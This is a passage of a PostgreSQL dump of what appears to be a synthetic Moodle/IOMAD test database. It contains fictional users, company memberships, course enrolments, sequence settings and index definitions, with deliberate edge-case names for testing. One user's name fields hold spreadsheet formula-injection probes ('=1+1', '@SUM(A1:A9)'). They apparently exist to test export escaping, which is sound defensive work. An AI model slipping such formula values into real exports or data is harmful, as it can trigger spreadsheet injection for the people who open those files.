45	manual	1	0	0	0	1	user043		E43	Carol	Nguyen	user043@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427470	1788427470	0	\N	García	Michael	Анастасия	翔	\N
47	manual	1	0	0	0	1	user045		E45	Eve	García	user045@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427540	1788427540	0	\N	Becker	秀英	Анастасия	Артем	\N
48	manual	1	0	0	0	1	user046		E46	  lead	trail  	user046@unicode.example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427575	1788427575	0	\N	Schulz	伟	陽菜	Tomáš	\N
31	manual	1	0	0	1	1	user029		E29	Ivan	Ivanov	user029@globex.example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788426980	1788426980	0	\N	Wagner	Jakub	Eliška	伟	\N
55	manual	1	0	0	0	1	user053		E53	Olivia	Nguyen	user053@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427820	1788427820	0	\N	Novotný	Michael	美咲	伟	\N
49	manual	1	0	0	0	1	user047		E47	Grace	Silva	user047@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427610	1788427610	0	\N	Novotný	Hanna	伟	Tereza	\N
70	manual	1	0	0	1	1	api_umbrella			API	umbrella	api_umbrella@example.test	0			umbrella	Umbrella (suspended)				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428224	1788428224	0	\N	趙	美羽	Leonie	Jayden	\N
50	manual	1	0	0	0	1	user048		E48	Heidi	Müller	user048@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427645	1788427645	0	\N	山本	Lukas	翔	Александр	\N
62	manual	1	0	0	1	1	user060		E60	null	NULL	user060@umbrella.example.test	0			umbrella	Umbrella (suspended)				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428065	1788428065	0	\N	小林	伟	美咲	翔太	\N
56	manual	1	0	0	0	1	user054		E54	Tab\tinside	new\nline	user054@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427855	1788427855	0	\N	Морозова	София	Артем	拓海	\N
51	manual	1	0	0	0	1	user049		E49	Ivan	Ivanov	user049@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427680	1788427680	0	\N	高橋	William	美羽	Olivia	\N
52	manual	1	0	0	0	1	user050		E50	écombining	ﬁligature Ⅷ	user050@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427715	1788427715	0	\N	Smith	芳	葵	Jayden	\N
57	manual	1	0	0	0	1	user055		E55	Rupert	García	user055@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427890	1788427890	0	\N	田中	Ethan	Jayden	Jayden	\N
53	manual	1	0	0	0	1	user051		E51	Mallory	Smith	user051@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427750	1788427750	0	\N	Weber	Ethan	秀英	颯太	\N
68	manual	1	0	0	0	1	api_unicode			API	unicode	api_unicode@example.test	0			unicode	Ünïcode & Söhne GmbH 日本 "O'Neil"				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428224	1788428224	0	\N	Schneider	Olivia	Anna	伟	\N
54	manual	1	0	0	0	1	user052		E52	Niaj	Novák	user052@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427785	1788427785	0	\N	Procházková	翔太	Александр	Anna	\N
60	manual	1	0	0	1	1	user058		E58	Uma	Müller	user058@umbrella.example.test	0			umbrella	Umbrella (suspended)				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427995	1788427995	0	\N	Rodríguez	Leon	伟	Karolína	\N
58	manual	1	0	0	0	1	user056		E56	Sybil	Rossi	user056@hooli.example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427925	1788427925	0	\N	Horáková	Артем	Eliška	Jacob	\N
59	manual	1	0	0	1	1	user057		E57	Trent	Silva	user057@umbrella.example.test	0			umbrella	Umbrella (suspended)				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427960	1788427960	0	\N	斎藤	伟	芳	Полина	\N
63	manual	1	0	0	1	1	user061		E61	Alice	Smith	user061@umbrella.example.test	0			umbrella	Umbrella (suspended)				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428100	1788428100	0	\N	Svoboda	さくら	Мария	Даниил	\N
65	manual	1	0	0	0	1	user063		E63	Lone	Wolf	user063@none.example.test	0								en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428170	1788428170	0	\N	Иванов	芳	Jacob	伟	\N
64	manual	1	0	0	1	1	user062		E62	Bob	Novák	user062@umbrella.example.test	0			umbrella	Umbrella (suspended)				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428135	1788428135	0	\N	刘	Isabella	伟	翔	\N
67	manual	1	0	0	0	1	api_globex			API	globex	api_globex@example.test	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428224	1788428224	0	\N	Петрова	拓海	Lena	Мария	\N
66	manual	1	0	0	0	1	api_acme			API	acme	api_acme@example.test	0			acme	Acme Learning				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428224	1788428224	0	\N	李	さくら	美咲	Jakub	\N
71	manual	1	0	0	0	1	api_empty			API	empty	api_empty@example.test	0			empty	Empty Co				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428224	1788428224	0	\N	高橋	Anna	Isabella	Мария	\N
69	manual	1	0	0	0	1	api_hooli			API	hooli	api_hooli@example.test	0			hooli	Hooli				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428224	1788428224	0	\N	刘	Laura	Leah	芳	\N
32	manual	1	0	1	0	1	user030@globex.example.test.1793523840			=1+1	@SUM(A1:A9)	f9f3a5dc95183eed1d420a5a2a3c8234	0			globex	Globex Corporation				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788427015	1793523840	0	\N	Schneider	Lukáš	Анастасия	伟	\N
61	manual	1	0	0	1	1	user059		E59	Victor	Ivanov	user059@umbrella.example.test	0			umbrella	Umbrella (suspended)				en	gregorian		99	0	0	0	0	0.0.0.0		0	\N	1	1	0	2	1	0	1788428030	1788428030	0	\N	小林	葵	翔太	颯太	\N
\.


--
-- Data for Name: mdl_user_enrolments; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_user_enrolments (id, status, enrolid, userid, timestart, timeend, modifierid, timecreated, timemodified) FROM stdin;
5	0	9	36	1788390000	0	2	1788428224	1788428224
9	0	5	4	1788595237	0	2	1788595237	1788595237
10	0	53	4	1788595274	0	2	1788595274	1788595274
11	0	1	5	1788595311	0	2	1788595311	1788595311
12	0	5	5	1788595348	0	2	1788595348	1788595348
13	0	53	5	1788595385	0	2	1788595385	1788595385
14	0	9	6	1788595422	0	2	1788595422	1788595422
17	0	9	7	1788595533	0	2	1788595533	1788595533
18	0	53	7	1788595570	0	2	1788595570	1788595570
19	0	5	8	1788595607	0	2	1788595607	1788595607
20	0	9	8	1788595644	0	2	1788595644	1788595644
22	0	1	9	1788595718	0	2	1788595718	1788595718
23	0	9	9	1788595755	0	2	1788595755	1788595755
24	0	53	9	1788595792	0	2	1788595792	1788595792
25	0	1	10	1788595829	0	2	1788595829	1788595829
26	0	5	10	1788595866	0	2	1788595866	1788595866
27	0	9	10	1788595903	0	2	1788595903	1788595903
29	0	53	10	1788595977	0	2	1788595977	1788595977
31	0	5	11	1788596051	0	2	1788596051	1788596051
32	0	9	11	1788596088	0	2	1788596088	1788596088
33	0	13	11	1788596125	0	2	1788596125	1788596125
34	0	53	11	1788596162	0	2	1788596162	1788596162
36	0	5	12	1788596236	0	2	1788596236	1788596236
37	0	9	12	1788596273	0	2	1788596273	1788596273
38	0	13	12	1788596310	0	2	1788596310	1788596310
39	0	53	12	1788596347	0	2	1788596347	1788596347
40	0	5	13	1788596384	0	2	1788596384	1788596384
41	0	9	13	1788596421	0	2	1788596421	1788596421
42	0	13	13	1788596458	0	2	1788596458	1788596458
43	0	53	13	1788596495	0	2	1788596495	1788596495
48	0	5	15	1788596680	0	2	1788596680	1788596680
49	0	13	15	1788596717	0	2	1788596717	1788596717
50	0	53	15	1788596754	0	2	1788596754	1788596754
51	0	5	16	1788596791	0	2	1788596791	1788596791
52	0	9	16	1788596828	0	2	1788596828	1788596828
53	0	13	16	1788596865	0	2	1788596865	1788596865
54	0	53	16	1788596902	0	2	1788596902	1788596902
55	0	1	17	1788596939	0	2	1788596939	1788596939
56	0	5	17	1788596976	0	2	1788596976	1788596976
57	0	9	17	1788597013	0	2	1788597013	1788597013
58	0	13	17	1788597050	0	2	1788597050	1788597050
59	0	53	17	1788597087	0	2	1788597087	1788597087
60	0	53	18	1788597124	0	2	1788597124	1788597124
61	0	1	19	1788597161	0	2	1788597161	1788597161
62	0	53	19	1788597198	0	2	1788597198	1788597198
63	0	1	20	1788597235	0	2	1788597235	1788597235
64	0	5	20	1788597272	0	2	1788597272	1788597272
65	0	9	20	1788597309	0	2	1788597309	1788597309
66	0	13	20	1788597346	0	2	1788597346	1788597346
67	0	53	20	1788597383	0	2	1788597383	1788597383
68	0	21	21	1788597420	0	2	1788597420	1788597420
69	0	25	21	1788597457	0	2	1788597457	1788597457
70	0	9	21	1788597494	0	2	1788597494	1788597494
71	0	21	22	1788597531	0	2	1788597531	1788597531
72	0	29	22	1788597568	0	2	1788597568	1788597568
73	0	9	22	1788597605	0	2	1788597605	1788597605
74	0	1	22	1788597642	0	2	1788597642	1788597642
75	0	13	22	1788597679	0	2	1788597679	1788597679
76	0	21	23	1788597716	0	2	1788597716	1788597716
78	0	1	23	1788597790	0	2	1788597790	1788597790
79	0	13	23	1788597827	0	2	1788597827	1788597827
80	0	21	24	1788597864	0	2	1788597864	1788597864
81	0	25	24	1788597901	0	2	1788597901	1788597901
2	0	21	36	1788600195	0	2	1788428224	1788600195
3	0	25	36	1788600232	0	2	1788428224	1788600232
4	0	29	36	1788600269	0	2	1788428224	1788600269
6	0	1	36	1788600306	0	2	1788428224	1788600306
7	0	13	36	1788600343	0	2	1788428224	1788600343
16	1	1	7	1788595496	0	2	1788595496	1788602755
77	1	29	23	1788597753	0	2	1788597753	1788602875
8	1	13	3	1788595200	0	2	1788595200	1788602935
15	0	13	6	1788595459	1792022400	2	1788595459	1788603055
21	0	13	8	1795186800	0	2	1788595681	1788603175
28	0	13	10	1893456000	0	2	1788595940	1788603235
83	0	9	24	1788597975	0	2	1788597975	1788597975
84	0	21	25	1788598012	0	2	1788598012	1788598012
85	0	25	25	1788598049	0	2	1788598049	1788598049
86	0	9	25	1788598086	0	2	1788598086	1788598086
87	0	1	25	1788598123	0	2	1788598123	1788598123
88	0	13	25	1788598160	0	2	1788598160	1788598160
89	0	17	26	1788598197	0	2	1788598197	1788598197
90	0	21	26	1788598234	0	2	1788598234	1788598234
92	0	9	26	1788598308	0	2	1788598308	1788598308
93	0	1	26	1788598345	0	2	1788598345	1788598345
94	0	17	27	1788598382	0	2	1788598382	1788598382
95	0	21	27	1788598419	0	2	1788598419	1788598419
96	0	29	27	1788598456	0	2	1788598456	1788598456
97	0	9	27	1788598493	0	2	1788598493	1788598493
98	0	1	27	1788598530	0	2	1788598530	1788598530
99	0	21	28	1788598567	0	2	1788598567	1788598567
100	0	25	28	1788598604	0	2	1788598604	1788598604
101	0	29	28	1788598641	0	2	1788598641	1788598641
102	0	9	28	1788598678	0	2	1788598678	1788598678
103	0	1	28	1788598715	0	2	1788598715	1788598715
104	0	17	29	1788598752	0	2	1788598752	1788598752
105	0	21	29	1788598789	0	2	1788598789	1788598789
106	0	25	29	1788598826	0	2	1788598826	1788598826
107	0	29	29	1788598863	0	2	1788598863	1788598863
108	0	1	29	1788598900	0	2	1788598900	1788598900
109	0	13	29	1788598937	0	2	1788598937	1788598937
110	0	17	30	1788598974	0	2	1788598974	1788598974
111	0	21	30	1788599011	0	2	1788599011	1788599011
112	0	29	30	1788599048	0	2	1788599048	1788599048
113	0	9	30	1788599085	0	2	1788599085	1788599085
114	0	1	30	1788599122	0	2	1788599122	1788599122
115	0	13	30	1788599159	0	2	1788599159	1788599159
116	0	17	31	1788599196	0	2	1788599196	1788599196
117	0	25	31	1788599233	0	2	1788599233	1788599233
118	0	29	31	1788599270	0	2	1788599270	1788599270
119	0	1	31	1788599307	0	2	1788599307	1788599307
120	0	13	31	1788599344	0	2	1788599344	1788599344
131	0	17	34	1788599751	0	2	1788599751	1788599751
132	0	21	34	1788599788	0	2	1788599788	1788599788
133	0	25	34	1788599825	0	2	1788599825	1788599825
134	0	29	34	1788599862	0	2	1788599862	1788599862
135	0	9	34	1788599899	0	2	1788599899	1788599899
136	0	1	34	1788599936	0	2	1788599936	1788599936
137	0	13	34	1788599973	0	2	1788599973	1788599973
138	0	17	35	1788600010	0	2	1788600010	1788600010
139	0	21	35	1788600047	0	2	1788600047	1788600047
140	0	25	35	1788600084	0	2	1788600084	1788600084
141	0	1	35	1788600121	0	2	1788600121	1788600121
1	0	17	36	1788600158	0	2	1788428224	1788600158
142	0	37	38	1788600380	0	2	1788600380	1788600380
143	0	13	38	1788600417	0	2	1788600417	1788600417
144	0	37	39	1788600454	0	2	1788600454	1788600454
145	0	13	39	1788600491	0	2	1788600491	1788600491
146	0	37	40	1788600528	0	2	1788600528	1788600528
147	0	13	40	1788600565	0	2	1788600565	1788600565
148	0	37	41	1788600602	0	2	1788600602	1788600602
149	0	13	41	1788600639	0	2	1788600639	1788600639
150	0	37	42	1788600676	0	2	1788600676	1788600676
151	0	13	42	1788600713	0	2	1788600713	1788600713
152	0	37	43	1788600750	0	2	1788600750	1788600750
153	0	13	43	1788600787	0	2	1788600787	1788600787
154	0	37	44	1788600824	0	2	1788600824	1788600824
155	0	13	44	1788600861	0	2	1788600861	1788600861
156	0	37	45	1788600898	0	2	1788600898	1788600898
157	0	13	45	1788600935	0	2	1788600935	1788600935
160	0	13	47	1788601046	0	2	1788601046	1788601046
161	0	37	48	1788601083	0	2	1788601083	1788601083
91	0	29	26	1788598271	1795183200	2	1788598271	1788603115
162	0	13	48	1788601120	0	2	1788601120	1788601120
163	0	41	49	1788601157	0	2	1788601157	1788601157
164	0	45	49	1788601194	0	2	1788601194	1788601194
165	0	13	49	1788601231	0	2	1788601231	1788601231
166	0	45	50	1788601268	0	2	1788601268	1788601268
167	0	45	51	1788601305	0	2	1788601305	1788601305
168	0	13	51	1788601342	0	2	1788601342	1788601342
169	0	41	52	1788601379	0	2	1788601379	1788601379
170	0	45	52	1788601416	0	2	1788601416	1788601416
171	0	13	52	1788601453	0	2	1788601453	1788601453
172	0	41	53	1788601490	0	2	1788601490	1788601490
173	0	45	53	1788601527	0	2	1788601527	1788601527
174	0	13	53	1788601564	0	2	1788601564	1788601564
175	0	41	54	1788601601	0	2	1788601601	1788601601
176	0	45	54	1788601638	0	2	1788601638	1788601638
177	0	45	56	1788601675	0	2	1788601675	1788601675
178	0	13	56	1788601712	0	2	1788601712	1788601712
179	0	45	57	1788601749	0	2	1788601749	1788601749
180	0	41	58	1788601786	0	2	1788601786	1788601786
181	0	45	58	1788601823	0	2	1788601823	1788601823
182	0	49	59	1788601860	0	2	1788601860	1788601860
183	0	1	59	1788601897	0	2	1788601897	1788601897
184	0	49	60	1788601934	0	2	1788601934	1788601934
185	0	1	60	1788601971	0	2	1788601971	1788601971
186	0	49	62	1788602008	0	2	1788602008	1788602008
187	0	49	63	1788602045	0	2	1788602045	1788602045
188	0	1	63	1788602082	0	2	1788602082	1788602082
189	0	49	64	1788602119	0	2	1788602119	1788602119
190	0	1	64	1788602156	0	2	1788602156	1788602156
191	0	57	3	1788602193	0	2	1788602193	1788602193
192	0	57	4	1788602230	0	2	1788602230	1788602230
193	0	57	5	1788602267	0	2	1788602267	1788602267
194	0	29	3	1788602304	0	2	1788602304	1788602304
195	0	29	4	1788602341	0	2	1788602341	1788602341
196	0	36	37	1788602378	1820138378	2	1788602378	1788602378
197	0	36	38	1788602389	1820138389	2	1788602389	1788602389
198	0	36	39	1788602400	1820138400	2	1788602400	1788602400
199	0	36	40	1788602411	1820138411	2	1788602411	1788602411
200	0	36	41	1788602422	1820138422	2	1788602422	1788602422
201	0	3	5	1788602455	0	2	1788602455	1788602455
202	0	3	7	1788602555	0	2	1788602555	1788602555
203	0	3	9	1788602655	0	2	1788602655	1788602655
204	0	31	22	1796378815	0	2	1788602815	1788602815
82	0	29	24	1788597938	1792022400	2	1788597938	1788602995
205	0	1	11	1793178180	0	2	1793178180	1793178180
207	0	15	49	0	0	2	1793524140	1793524140
208	0	15	50	0	0	2	1793524140	1793524140
\.


--
-- Name: mdl_company_course_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_company_course_id_seq', 18, true);


--
-- Name: mdl_company_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_company_id_seq', 6, true);


--
-- Name: mdl_company_users_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_company_users_id_seq', 76, true);


--
-- Name: mdl_config_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_config_id_seq', 632, true);


--
-- Name: mdl_context_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_context_id_seq', 151, true);


--
-- Name: mdl_course_categories_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_course_categories_id_seq', 7, true);


--
-- Name: mdl_course_completions_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_course_completions_id_seq', 202, true);


--
-- Name: mdl_course_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_course_id_seq', 16, true);


--
-- Name: mdl_course_modules_completion_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_course_modules_completion_id_seq', 298, true);


--
-- Name: mdl_course_modules_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_course_modules_id_seq', 46, true);


--
-- Name: mdl_course_sections_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_course_sections_id_seq', 30, true);


--
-- Name: mdl_department_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_department_id_seq', 24, true);


--
-- Name: mdl_enrol_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_enrol_id_seq', 60, true);


--
-- Name: mdl_iomad_courses_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_iomad_courses_id_seq', 14, true);


--
-- Name: mdl_modules_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_modules_id_seq', 26, true);


--
-- Name: mdl_role_assignments_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_role_assignments_id_seq', 209, true);


--
-- Name: mdl_role_capabilities_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_role_capabilities_id_seq', 2084, true);


--
-- Name: mdl_role_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_role_id_seq', 15, true);


--
-- Name: mdl_user_enrolments_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_user_enrolments_id_seq', 208, true);


--
-- Name: mdl_user_id_seq; Type: SEQUENCE SET; Schema: public; Owner: -
--

SELECT pg_catalog.setval('public.mdl_user_id_seq', 71, true);


--
-- Name: mdl_company mdl_comp_id3_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_company
    ADD CONSTRAINT mdl_comp_id3_pk PRIMARY KEY (id);


--
-- Name: mdl_company_course mdl_compcour_id5_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_company_course
    ADD CONSTRAINT mdl_compcour_id5_pk PRIMARY KEY (id);


--
-- Name: mdl_company_users mdl_compuser_id13_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_company_users
    ADD CONSTRAINT mdl_compuser_id13_pk PRIMARY KEY (id);


--
-- Name: mdl_config mdl_conf_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_config
    ADD CONSTRAINT mdl_conf_id_pk PRIMARY KEY (id);


--
-- Name: mdl_context mdl_cont_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_context
    ADD CONSTRAINT mdl_cont_id_pk PRIMARY KEY (id);


--
-- Name: mdl_course mdl_cour_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course
    ADD CONSTRAINT mdl_cour_id_pk PRIMARY KEY (id);


--
-- Name: mdl_course_categories mdl_courcate_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_categories
    ADD CONSTRAINT mdl_courcate_id_pk PRIMARY KEY (id);


--
-- Name: mdl_course_completions mdl_courcomp_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_completions
    ADD CONSTRAINT mdl_courcomp_id_pk PRIMARY KEY (id);


--
-- Name: mdl_course_modules mdl_courmodu_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_modules
    ADD CONSTRAINT mdl_courmodu_id_pk PRIMARY KEY (id);


--
-- Name: mdl_course_modules_completion mdl_courmoducomp_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_modules_completion
    ADD CONSTRAINT mdl_courmoducomp_id_pk PRIMARY KEY (id);


--
-- Name: mdl_course_sections mdl_coursect_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_course_sections
    ADD CONSTRAINT mdl_coursect_id_pk PRIMARY KEY (id);


--
-- Name: mdl_department mdl_depa_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_department
    ADD CONSTRAINT mdl_depa_id_pk PRIMARY KEY (id);


--
-- Name: mdl_enrol mdl_enro_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_enrol
    ADD CONSTRAINT mdl_enro_id_pk PRIMARY KEY (id);


--
-- Name: mdl_iomad_courses mdl_iomacour_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_iomad_courses
    ADD CONSTRAINT mdl_iomacour_id_pk PRIMARY KEY (id);


--
-- Name: mdl_modules mdl_modu_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_modules
    ADD CONSTRAINT mdl_modu_id_pk PRIMARY KEY (id);


--
-- Name: mdl_role mdl_role_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_role
    ADD CONSTRAINT mdl_role_id_pk PRIMARY KEY (id);


--
-- Name: mdl_role_assignments mdl_roleassi_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_role_assignments
    ADD CONSTRAINT mdl_roleassi_id_pk PRIMARY KEY (id);


--
-- Name: mdl_role_capabilities mdl_rolecapa_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_role_capabilities
    ADD CONSTRAINT mdl_rolecapa_id_pk PRIMARY KEY (id);


--
-- Name: mdl_user mdl_user_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_user
    ADD CONSTRAINT mdl_user_id_pk PRIMARY KEY (id);


--
-- Name: mdl_user_enrolments mdl_userenro_id_pk; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.mdl_user_enrolments
    ADD CONSTRAINT mdl_userenro_id_pk PRIMARY KEY (id);


--
-- Name: mdl_comp_nam_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_comp_nam_ix ON public.mdl_company USING btree (name);


--
-- Name: mdl_comp_par_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_comp_par_ix ON public.mdl_company USING btree (parentid);


--
-- Name: mdl_comp_sho_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_comp_sho_ix ON public.mdl_company USING btree (shortname);


--
-- Name: mdl_compcour_comcou_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_compcour_comcou_ix ON public.mdl_company_course USING btree (companyid, courseid);


--
-- Name: mdl_compcour_depcou_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_compcour_depcou_ix ON public.mdl_company_course USING btree (departmentid, courseid);


--
-- Name: mdl_compuser_comman_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_compuser_comman_ix ON public.mdl_company_users USING btree (companyid, managertype);


--
-- Name: mdl_compuser_comusedep_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_compuser_comusedep_uix ON public.mdl_company_users USING btree (companyid, userid, departmentid);


--
-- Name: mdl_compuser_depman_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_compuser_depman_ix ON public.mdl_company_users USING btree (departmentid, managertype);


--
-- Name: mdl_conf_nam_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_conf_nam_uix ON public.mdl_config USING btree (name);


--
-- Name: mdl_cont_conins_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_cont_conins_uix ON public.mdl_context USING btree (contextlevel, instanceid);


--
-- Name: mdl_cont_ins_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_cont_ins_ix ON public.mdl_context USING btree (instanceid);


--
-- Name: mdl_cont_pat_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_cont_pat_ix ON public.mdl_context USING btree (path);


--
-- Name: mdl_cont_pat_ix_pattern; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_cont_pat_ix_pattern ON public.mdl_context USING btree (path varchar_pattern_ops);


--
-- Name: mdl_cour_cat_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_cour_cat_ix ON public.mdl_course USING btree (category);


--
-- Name: mdl_cour_idn_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_cour_idn_ix ON public.mdl_course USING btree (idnumber);


--
-- Name: mdl_cour_ori_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_cour_ori_ix ON public.mdl_course USING btree (originalcourseid);


--
-- Name: mdl_cour_sho_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_cour_sho_ix ON public.mdl_course USING btree (shortname);


--
-- Name: mdl_cour_sor_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_cour_sor_ix ON public.mdl_course USING btree (sortorder);


--
-- Name: mdl_courcate_par_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courcate_par_ix ON public.mdl_course_categories USING btree (parent);


--
-- Name: mdl_courcomp_cou_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courcomp_cou_ix ON public.mdl_course_completions USING btree (course);


--
-- Name: mdl_courcomp_tim_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courcomp_tim_ix ON public.mdl_course_completions USING btree (timecompleted);


--
-- Name: mdl_courcomp_use_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courcomp_use_ix ON public.mdl_course_completions USING btree (userid);


--
-- Name: mdl_courcomp_usecou_uix; Type: INDEX; Schema: public; Owner: -
--

CREATE UNIQUE INDEX mdl_courcomp_usecou_uix ON public.mdl_course_completions USING btree (userid, course);


--
-- Name: mdl_courmodu_cou_ix; Type: INDEX; Schema: public; Owner: -
--

CREATE INDEX mdl_courmodu_cou_ix ON public.mdl_course_modules USING btree (course);


--
-- Name: mdl_courmodu_gro_ix; Type: INDEX; Schema: public; Owner: -
--

